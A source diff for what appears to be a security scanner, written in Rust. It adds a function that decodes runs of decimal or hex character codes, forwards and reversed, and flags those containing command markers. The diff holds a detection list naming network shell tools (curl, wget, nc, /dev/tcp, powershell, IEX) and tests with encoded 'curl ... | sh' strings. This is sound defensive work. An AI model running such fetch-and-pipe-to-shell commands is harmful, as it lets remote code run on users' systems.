@@ -144,6 +144,77 @@ pub(super) fn runs(text: &str) -> Vec<(String, &'static str, Span)> {
     found
 }
 
+/// Fewest numbers in a row that are read as characters.
+const FEWEST_NUMBERS: usize = 8;
+
+/// What a text out of numbers must have in it to be more than numbers.
+const COMMANDS: [&str; 18] = [
+    "curl ",
+    "wget ",
+    "http://",
+    "https://",
+    "/bin/",
+    "|sh",
+    "| sh",
+    "|bash",
+    "| bash",
+    "powershell",
+    "require(",
+    "import ",
+    "eval(",
+    "exec(",
+    "nc -",
+    "/dev/tcp",
+    "child_process",
+    "IEX",
+];
+
+/// Lists of character codes in a text that are commands or addresses.
+pub(super) fn numbers(text: &str) -> Vec<(String, &'static str, Span)> {
+    let bytes = text.as_bytes();
+    let (mut found, mut at) = (Vec::new(), 0);
+    while at < bytes.len() {
+        if !bytes[at].is_ascii_digit() || at > 0 && bytes[at - 1].is_ascii_alphanumeric() {
+            at += 1;
+            continue;
+        }
+        let start = at;
+        let mut letters = String::new();
+        while let Some((code, end)) = number(bytes, at) {
+            let Some(letter) = char::from_u32(code).filter(char::is_ascii) else { break };
+            letters.push(letter);
+            at = end;
+            let gap =
+                bytes[end..].iter().take(16).take_while(|byte| b", \t\r\n;".contains(byte)).count();
+            if gap == 0 || !bytes.get(end + gap).is_some_and(u8::is_ascii_digit) {
+                break;
+            }
+            at = end + gap;
+        }
+        at = at.max(start + 1);
+        // The same in reverse is as easy to read for a program.
+        let turned: String = letters.chars().rev().collect();
+        for letters in [letters, turned] {
+            if letters.len() >= FEWEST_NUMBERS && COMMANDS.iter().any(|mark| letters.contains(mark))
+            {
+                found.push((letters, "a list of character codes", Span::new(start, at)));
+            }
+        }
+    }
+    found
+}
+
+/// A number at a place, and where it ends.
+fn number(bytes: &[u8], at: usize) -> Option<(u32, usize)> {
+    let rest = &bytes[at..];
+    let hex = rest.starts_with(b"0x") || rest.starts_with(b"0X");
+    let (skip, radix) = if hex { (2, 16) } else { (0, 10) };
+    let digits = rest[skip..].iter().take(4).take_while(|byte| char::from(**byte).is_digit(radix));
+    let count = digits.count();
+    let text = std::str::from_utf8(&rest[skip..skip + count]).ok()?;
+    Some((u32::from_str_radix(text, radix).ok()?, at + skip + count))
+}
+
 /// Paths and long words are letters of Base64, too.
 fn looks_encoded(run: &str) -> bool {
     let upper = run.bytes().any(|byte| byte.is_ascii_uppercase());
@@ -181,6 +252,18 @@ mod tests {
         assert_eq!(found.len(), 1);
         assert_eq!(found[0].0, "curl http://x | sh");
         assert!(runs("internationalization/of/the/things and CamelCaseNamesOfClasses").is_empty());
+    }
+
+    #[test]
+    fn numbers_are_letters() {
+        for text in [
+            "const L = [99, 117, 114, 108, 32, 104, 116, 116, 112, 58, 47, 47, 120];",
+            "bytes((0x63,0x75,0x72,0x6c,0x20,0x78,0x7c,0x73,0x68))",
+            "[104,115,124,120,32,108,114,117,99]",
+        ] {
+            assert!(numbers(text).iter().any(|(text, _, _)| text.starts_with("curl ")), "{text}");
+        }
+        assert!(numbers("1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 99, 100, 101, 102, 103").is_empty());
     }
 
     #[test]
